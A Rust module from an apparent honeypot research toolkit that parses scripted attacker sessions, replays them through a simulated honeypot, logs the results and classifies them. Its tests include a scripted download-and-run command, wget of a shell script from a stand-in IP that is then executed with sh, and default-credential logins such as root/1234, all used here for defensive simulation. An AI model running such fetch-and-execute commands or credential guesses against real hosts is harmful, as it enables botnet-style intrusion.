//! Scenario replay: textual attacker-session scripts driven through the
//! real honeypot stack.
//!
//! A `.hfs` scenario is a small line-based script describing one attacker
//! session — protocol, credential attempts, command lines, idle gaps —
//! that testkit replays through [`hf_honeypot::SessionDriver`] (and with it
//! the shell interpreter and VFS). The replay produces a deterministic
//! textual *event log* from the finished [`SessionRecord`], which golden
//! tests diff against checked-in expectations (see [`crate::golden`]).
//!
//! # Format
//!
//! One directive per line; `#` starts a comment; blank lines are ignored.
//! Header directives configure the session and must precede the first step:
//!
//! ```text
//! name      mirai_download       # required, used in the event log
//! protocol  ssh | telnet         # default ssh
//! fetcher   synthetic | null     # default synthetic
//! honeypot  3                    # default 0
//! client    203.0.113.9          # default 203.0.113.9
//! port      50222                # default 40022
//! start     5 1000               # day secs-of-day, default 0 0
//! ```
//!
//! Step directives drive the session in order:
//!
//! ```text
//! banner   SSH-2.0-Go            # client ident (SSH only)
//! think    5                     # typing delay for subsequent login/cmd
//! login    root 1234             # offer credentials
//! cmd      uname -a              # run a shell command line
//! idle     30                    # seconds of client silence
//! transfer 200                   # completed external download of N secs
//! close                          # client closes the connection
//! ```
//!
//! A scenario without a trailing `close` is closed implicitly (matching
//! `SessionDriver::into_record`). Parsing is total: every malformed input
//! maps to a typed [`ScenarioError`] with the offending line number.

use std::fmt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

use hf_core::classify::{taxonomy, Category};
use hf_farm::FarmPlan;
use hf_geo::Ip4;
use hf_honeypot::{HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::Protocol;
use hf_shell::{NullFetcher, RemoteFetcher, SyntheticFetcher, SystemProfile};
use hf_sim::exec::build_configs;
use hf_simclock::SimInstant;

/// Which [`RemoteFetcher`] the replayed session's shell gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum FetcherKind {
    /// [`SyntheticFetcher`]: downloads succeed with deterministic bodies.
    #[default]
    Synthetic,
    /// [`NullFetcher`]: every download fails (URI still recorded).
    Null,
}

impl FetcherKind {
    /// The name a script gives this kind: the scenario header's `fetcher`
    /// value and the wire control channel's `@hfs fetcher` argument.
    pub fn name(self) -> &'static str {
        match self {
            FetcherKind::Synthetic => "synthetic",
            FetcherKind::Null => "null",
        }
    }

    /// The kind [`FetcherKind::name`] gives `name`, if any.
    pub fn from_name(name: &str) -> Option<FetcherKind> {
        [FetcherKind::Synthetic, FetcherKind::Null]
            .into_iter()
            .find(|k| k.name() == name)
    }

    /// A fresh fetcher of this kind for one session's shell.
    pub fn build(self) -> Box<dyn RemoteFetcher> {
        match self {
            FetcherKind::Synthetic => Box::new(SyntheticFetcher),
            FetcherKind::Null => Box::new(NullFetcher),
        }
    }
}

/// One scripted step of an attacker session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// Client SSH identification line.
    Banner(String),
    /// Set the typing delay (seconds) for subsequent `login`/`cmd` steps.
    Think(u32),
    /// Offer credentials.
    Login {
        /// Username offered.
        user: String,
        /// Password offered.
        pass: String,
    },
    /// Execute a shell command line.
    Cmd(String),
    /// Client silence for N seconds (may trip a honeypot timeout).
    Idle(u32),
    /// A completed external transfer taking N seconds.
    Transfer(u32),
    /// Client closes the connection.
    Close,
}

/// A parsed scenario: session header plus scripted steps.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Scenario {
    /// Scenario name (the `name` directive).
    pub name: String,
    /// Session protocol.
    pub protocol: Protocol,
    /// Which fetcher the shell gets.
    pub fetcher: FetcherKind,
    /// Honeypot index.
    pub honeypot: u16,
    /// Client address.
    pub client: Ip4,
    /// Client source port.
    pub port: u16,
    /// Session start instant.
    pub start: SimInstant,
    /// Scripted steps, in order.
    pub steps: Vec<Step>,
}

/// Typed scenario failure: parse errors carry the 1-based line number.
#[derive(Debug)]
pub enum ScenarioError {
    /// File could not be read.
    Io(std::io::Error),
    /// Malformed directive.
    Syntax {
        /// 1-based line number in the source.
        line: usize,
        /// What went wrong.
        msg: String,
    },
}

impl fmt::Display for ScenarioError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ScenarioError::Io(e) => write!(f, "scenario io error: {e}"),
            ScenarioError::Syntax { line, msg } => {
                write!(f, "scenario syntax error at line {line}: {msg}")
            }
        }
    }
}

impl std::error::Error for ScenarioError {}

impl From<std::io::Error> for ScenarioError {
    fn from(e: std::io::Error) -> Self {
        ScenarioError::Io(e)
    }
}

fn syntax(line: usize, msg: impl Into<String>) -> ScenarioError {
    ScenarioError::Syntax {
        line,
        msg: msg.into(),
    }
}

fn parse_num<T: std::str::FromStr>(line: usize, what: &str, s: &str) -> Result<T, ScenarioError> {
    s.parse()
        .map_err(|_| syntax(line, format!("{what}: invalid number {s:?}")))
}

fn parse_ip(line: usize, s: &str) -> Result<Ip4, ScenarioError> {
    let parts: Vec<&str> = s.split('.').collect();
    if parts.len() != 4 {
        return Err(syntax(line, format!("client: expected a.b.c.d, got {s:?}")));
    }
    let mut oct = [0u8; 4];
    for (i, p) in parts.iter().enumerate() {
        oct[i] = parse_num(line, "client", p)?;
    }
    Ok(Ip4::new(oct[0], oct[1], oct[2], oct[3]))
}

impl Scenario {
    /// Parse a scenario from source text.
    pub fn parse(src: &str) -> Result<Scenario, ScenarioError> {
        let mut name: Option<String> = None;
        let mut sc = Scenario {
            name: String::new(),
            protocol: Protocol::Ssh,
            fetcher: FetcherKind::Synthetic,
            honeypot: 0,
            client: Ip4::new(203, 0, 113, 9),
            port: 40022,
            start: SimInstant::EPOCH,
            steps: Vec::new(),
        };
        for (i, raw) in src.lines().enumerate() {
            let lineno = i + 1;
            let line = match raw.find('#') {
                Some(pos) => &raw[..pos],
                None => raw,
            }
            .trim();
            if line.is_empty() {
                continue;
            }
            let (word, rest) = match line.split_once(char::is_whitespace) {
                Some((w, r)) => (w, r.trim()),
                None => (line, ""),
            };
            let in_header = sc.steps.is_empty();
            let header = |ok: bool| -> Result<(), ScenarioError> {
                if ok {
                    Ok(())
                } else {
                    Err(syntax(
                        lineno,
                        format!("header directive {word:?} must precede the first step"),
                    ))
                }
            };
            match word {
                "name" => {
                    header(in_header)?;
                    if rest.is_empty() {
                        return Err(syntax(lineno, "name: missing value"));
                    }
                    name = Some(rest.to_string());
                }
                "protocol" => {
                    header(in_header)?;
                    sc.protocol = match rest {
                        "ssh" => Protocol::Ssh,
                        "telnet" => Protocol::Telnet,
                        other => {
                            return Err(syntax(
                                lineno,
                                format!("protocol: expected ssh|telnet, got {other:?}"),
                            ))
                        }
                    };
                }
                "fetcher" => {
                    header(in_header)?;
                    sc.fetcher = FetcherKind::from_name(rest).ok_or_else(|| {
                        syntax(
                            lineno,
                            format!("fetcher: expected synthetic|null, got {rest:?}"),
                        )
                    })?;
                }
                "honeypot" => {
                    header(in_header)?;
                    sc.honeypot = parse_num(lineno, "honeypot", rest)?;
                }
                "client" => {
                    header(in_header)?;
                    sc.client = parse_ip(lineno, rest)?;
                }
                "port" => {
                    header(in_header)?;
                    sc.port = parse_num(lineno, "port", rest)?;
                }
                "start" => {
                    header(in_header)?;
                    let (d, s) = rest
                        .split_once(char::is_whitespace)
                        .ok_or_else(|| syntax(lineno, "start: expected `start DAY SECS`"))?;
                    let day: u32 = parse_num(lineno, "start day", d.trim())?;
                    let secs: u32 = parse_num(lineno, "start secs", s.trim())?;
                    if secs as u64 >= hf_simclock::SECS_PER_DAY {
                        return Err(syntax(lineno, "start secs: must be < 86400"));
                    }
                    sc.start = SimInstant::from_day_and_secs(day, secs);
                }
                "banner" => {
                    if rest.is_empty() {
                        return Err(syntax(lineno, "banner: missing value"));
                    }
                    sc.steps.push(Step::Banner(rest.to_string()));
                }
                "think" => sc
                    .steps
                    .push(Step::Think(parse_num(lineno, "think", rest)?)),
                "login" => {
                    let (user, pass) = rest
                        .split_once(char::is_whitespace)
                        .ok_or_else(|| syntax(lineno, "login: expected `login USER PASS`"))?;
                    sc.steps.push(Step::Login {
                        user: user.to_string(),
                        pass: pass.trim().to_string(),
                    });
                }
                "cmd" => {
                    if rest.is_empty() {
                        return Err(syntax(lineno, "cmd: missing command line"));
                    }
                    sc.steps.push(Step::Cmd(rest.to_string()));
                }
                "idle" => sc.steps.push(Step::Idle(parse_num(lineno, "idle", rest)?)),
                "transfer" => sc
                    .steps
                    .push(Step::Transfer(parse_num(lineno, "transfer", rest)?)),
                "close" => sc.steps.push(Step::Close),
                other => return Err(syntax(lineno, format!("unknown directive {other:?}"))),
            }
        }
        sc.name = name.ok_or_else(|| syntax(src.lines().count().max(1), "missing `name`"))?;
        Ok(sc)
    }

    /// Load and parse a scenario file.
    pub fn load(path: &Path) -> Result<Scenario, ScenarioError> {
        Scenario::parse(&std::fs::read_to_string(path)?)
    }

    /// The `.hfs` files in `dir`, sorted by path.
    pub fn paths_in(dir: &Path) -> Vec<PathBuf> {
        let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)
            .expect("scenario dir")
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
            .collect();
        paths.sort();
        paths
    }

    /// Replay the scenario against the paper-configured honeypot, producing
    /// the finished session record. The session runs on node `honeypot`'s
    /// own machine profile, the config the simulator and the live farm give
    /// that node. Steps after the session ends (timeout, auth cap, close) are
    /// ignored, exactly as a real client's late input would be.
    pub fn replay(&self) -> SessionRecord {
        let mut d = SessionDriver::accept(
            node_config(self.honeypot),
            self.honeypot,
            self.protocol,
            self.client,
            self.port,
            self.start,
            self.fetcher.build(),
        );
        let mut think = 1u32;
        for step in &self.steps {
            match step {
                Step::Banner(b) => d.client_banner(b),
                Step::Think(t) => think = *t,
                Step::Login { user, pass } => {
                    let _ = d.offer_credentials(Credentials::new(user, pass), think);
                }
                Step::Cmd(line) => {
                    let _ = d.run_command(line, think);
                }
                Step::Idle(secs) => {
                    let _ = d.advance(*secs);
                }
                Step::Transfer(secs) => d.external_transfer(*secs),
                Step::Close => d.client_close(),
            }
        }
        d.into_record()
    }

    /// Replay and render the deterministic event log.
    pub fn event_log(&self) -> String {
        render_event_log(&self.name, &self.replay())
    }
}

/// Node `id`'s config, shared by every replay on that node, as the
/// simulator and the live farm share theirs: the paper deployment's configs
/// are built once per process, so a replay starts its shell on the node's
/// seeded image instead of seeding one. An id past the deployment gets a
/// config of its own, on the same profile the farms would give it.
fn node_config(id: u16) -> Arc<HoneypotConfig> {
    static NODES: OnceLock<Vec<Arc<HoneypotConfig>>> = OnceLock::new();
    let nodes = NODES.get_or_init(|| build_configs(&FarmPlan::paper()));
    match nodes.get(id as usize) {
        Some(config) => Arc::clone(config),
        None => Arc::new(HoneypotConfig::paper(SystemProfile::for_node(id as u32))),
    }
}

/// Classify a raw session record with the Section 6 taxonomy — the
/// [`taxonomy`] tree that [`hf_core::classify::classify`] applies to stored
/// rows, applied before the record reaches a store.
pub fn classify_record(rec: &SessionRecord) -> Category {
    taxonomy(
        rec.attempted_login(),
        rec.login_succeeded(),
        !rec.commands.is_empty(),
        rec.accessed_uri(),
    )
}

/// Render a session record as the canonical line-based event log.
///
/// Every line is `key value`; collections keep record order (which the
/// honeypot fixes deterministically), so the rendering is stable across
/// runs, platforms, and thread counts.
pub fn render_event_log(name: &str, rec: &SessionRecord) -> String {
    let cat = classify_record(rec);
    let mut s = String::new();
    let mut line = |l: String| {
        s.push_str(&l);
        s.push('\n');
    };
    line(format!("scenario {name}"));
    line(format!("protocol {}", rec.protocol.label()));
    line(format!("category {}", cat.label()));
    line(format!("behavior {}", cat.behavior().label()));
    line(format!(
        "start day={} secs={}",
        rec.start.day(),
        rec.start.secs_of_day()
    ));
    line(format!("duration_secs {}", rec.duration_secs));
    line(format!("ended_by {:?}", rec.ended_by));
    if let Some(v) = &rec.ssh_client_version {
        line(format!("ssh_client {v}"));
    }
    for l in &rec.logins {
        line(format!(
            "login {}/{} {}",
            l.creds.username,
            l.creds.password,
            if l.accepted { "accepted" } else { "rejected" }
        ));
    }
    for c in &rec.commands {
        line(format!(
            "cmd {} {:?}",
            if c.known { "known" } else { "unknown" },
            c.input
        ));
    }
    for u in &rec.uris {
        line(format!("uri {u}"));
    }
    for h in &rec.file_hashes {
        line(format!("file_hash {}", h.to_hex()));
    }
    for h in &rec.download_hashes {
        line(format!("download_hash {}", h.to_hex()));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_honeypot::EndReason;

    #[test]
    fn parses_full_header_and_steps() {
        let sc = Scenario::parse(
            "# a scenario\n\
             name demo\n\
             protocol telnet\n\
             fetcher null\n\
             honeypot 7\n\
             client 198.51.100.20\n\
             port 1023\n\
             start 5 1000\n\
             think 2\n\
             login root 1234\n\
             cmd uname -a\n\
             idle 30\n\
             transfer 60\n\
             close\n",
        )
        .expect("parse");
        assert_eq!(sc.name, "demo");
        assert_eq!(sc.protocol, Protocol::Telnet);
        assert_eq!(sc.fetcher, FetcherKind::Null);
        assert_eq!(sc.honeypot, 7);
        assert_eq!(sc.client, Ip4::new(198, 51, 100, 20));
        assert_eq!(sc.port, 1023);
        assert_eq!(sc.start, SimInstant::from_day_and_secs(5, 1000));
        assert_eq!(sc.steps.len(), 6);
        assert_eq!(sc.steps[0], Step::Think(2));
        assert_eq!(
            sc.steps[1],
            Step::Login {
                user: "root".into(),
                pass: "1234".into()
            }
        );
        assert_eq!(sc.steps[2], Step::Cmd("uname -a".into()));
        assert_eq!(sc.steps[5], Step::Close);
    }

    #[test]
    fn inline_comments_and_blank_lines_ignored() {
        let sc = Scenario::parse("name x  # the name\n\n# nothing\nclose # done\n").unwrap();
        assert_eq!(sc.name, "x");
        assert_eq!(sc.steps, vec![Step::Close]);
    }

    #[test]
    fn missing_name_is_a_syntax_error() {
        match Scenario::parse("close\n") {
            Err(ScenarioError::Syntax { msg, .. }) => assert!(msg.contains("name"), "{msg}"),
            other => panic!("expected syntax error, got {other:?}"),
        }
    }

    #[test]
    fn header_after_step_is_rejected() {
        match Scenario::parse("name x\nclose\nprotocol telnet\n") {
            Err(ScenarioError::Syntax { line, msg }) => {
                assert_eq!(line, 3);
                assert!(msg.contains("precede"), "{msg}");
            }
            other => panic!("expected syntax error, got {other:?}"),
        }
    }

    #[test]
    fn bad_directive_reports_line_number() {
        match Scenario::parse("name x\nfrobnicate 3\n") {
            Err(ScenarioError::Syntax { line, msg }) => {
                assert_eq!(line, 2);
                assert!(msg.contains("frobnicate"), "{msg}");
            }
            other => panic!("expected syntax error, got {other:?}"),
        }
    }

    #[test]
    fn bad_numbers_and_ips_are_typed_errors() {
        assert!(Scenario::parse("name x\nidle soon\n").is_err());
        assert!(Scenario::parse("name x\nclient 1.2.3\n").is_err());
        assert!(Scenario::parse("name x\nstart 0 90000\n").is_err());
        assert!(Scenario::parse("name x\nprotocol gopher\n").is_err());
    }

    #[test]
    fn replay_matches_driver_semantics() {
        // Mirrors session.rs's `three_failed_logins_disconnect` through the
        // scenario path: the auth cap must fire identically.
        let sc = Scenario::parse(
            "name cap\n\
             think 2\n\
             login admin admin\n\
             login root root\n\
             login user 1234\n",
        )
        .unwrap();
        let rec = sc.replay();
        assert_eq!(rec.ended_by, EndReason::AuthLimit);
        assert_eq!(rec.logins.len(), 3);
        assert_eq!(classify_record(&rec), Category::FailLog);
    }

    #[test]
    fn replay_is_deterministic() {
        let sc = Scenario::parse(
            "name det\n\
             login root 1234\n\
             cmd cd /tmp && wget http://198.51.100.1/x.sh\n\
             transfer 200\n\
             cmd sh x.sh\n\
             close\n",
        )
        .unwrap();
        assert_eq!(sc.event_log(), sc.event_log());
        assert_eq!(classify_record(&sc.replay()), Category::CmdUri);
    }

    #[test]
    fn event_log_contains_every_surface() {
        let sc = Scenario::parse(
            "name full\n\
             banner SSH-2.0-Go\n\
             login root 1234\n\
             cmd echo x > /tmp/f\n\
             close\n",
        )
        .unwrap();
        let log = sc.event_log();
        assert!(log.contains("scenario full"), "{log}");
        assert!(log.contains("category CMD"), "{log}");
        assert!(log.contains("behavior intrusion"), "{log}");
        assert!(log.contains("ssh_client SSH-2.0-Go"), "{log}");
        assert!(log.contains("login root/1234 accepted"), "{log}");
        assert!(log.contains("file_hash "), "{log}");
        assert!(log.contains("ended_by ClientClose"), "{log}");
    }
}
